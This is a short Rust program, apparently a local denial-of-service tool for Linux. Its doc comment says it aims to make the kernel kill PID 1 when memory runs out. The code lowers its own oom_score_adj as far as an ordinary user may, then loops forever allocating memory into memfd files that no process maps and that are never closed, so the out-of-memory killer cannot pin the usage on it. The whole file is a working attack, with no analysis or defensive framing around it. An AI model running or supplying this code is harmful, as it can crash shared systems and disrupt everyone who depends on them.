//! Takes the memory as a file that no process maps, and makes itself the last to go when there is none left, as far as
//! an ordinary user may: then PID 1 is larger than it, and the kernel is to end that.
use std::ffi::{c_char, c_int, c_uint};

unsafe extern "C" {
    fn memfd_create(name: *const c_char, flags: c_uint) -> c_int;
    fn fallocate(file: c_int, mode: c_int, from: i64, length: i64) -> c_int;
}

fn main() {
    for score in (0..=1000).rev() {
        if std::fs::write("/proc/self/oom_score_adj", score.to_string()).is_err() {
            break;
        }
    }
    eprintln!("score {}", std::fs::read_to_string("/proc/self/oom_score_adj").unwrap_or_default());
    loop {
        let file = unsafe { memfd_create(c"m".as_ptr(), 0) };
        for at in 0..32 {
            assert_eq!(unsafe { fallocate(file, 0, at << 20, 1 << 20) }, 0);
        }
    }
}
